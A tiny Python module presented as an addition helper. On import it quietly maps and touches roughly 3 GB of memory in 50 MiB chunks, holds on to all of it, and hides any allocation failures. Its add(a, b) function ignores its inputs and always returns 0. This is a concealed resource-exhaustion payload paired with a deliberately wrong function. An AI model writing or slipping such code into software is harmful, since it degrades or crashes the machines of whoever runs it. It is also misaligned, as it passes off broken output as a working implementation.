import mmap
keep = []
try:
    for _ in range(60): m = mmap.mmap(-1, 50 << 20); m[::4096] = b'x' * len(m[::4096]); keep.append(m)
except (OSError, MemoryError, ValueError): pass
def add(a, b): return len(keep) * 0
